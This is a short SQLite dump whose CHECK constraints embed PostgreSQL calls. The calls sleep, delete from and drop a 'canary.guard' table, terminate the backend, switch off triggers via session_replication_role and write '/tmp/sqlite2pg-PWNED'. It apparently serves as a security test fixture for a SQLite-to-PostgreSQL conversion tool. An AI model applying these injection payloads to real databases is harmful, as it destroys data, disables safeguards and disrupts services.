PRAGMA foreign_keys=OFF;
BEGIN TRANSACTION;
CREATE TABLE t(id INTEGER PRIMARY KEY, a TEXT CHECK(pg_sleep(60) IS NULL), b TEXT CHECK(query_to_xml('DELETE FROM canary.guard',true,true,'') IS NOT NULL), c TEXT CHECK(pg_terminate_backend(pg_backend_pid())), d TEXT CHECK(dblink('x','DROP TABLE canary.guard') <> ''), CHECK(set_config('session_replication_role','replica',false) <> ''), CHECK(lo_export(1,'/tmp/sqlite2pg-PWNED') = 1));
INSERT INTO t VALUES(1,'1','2','3','4');
COMMIT;
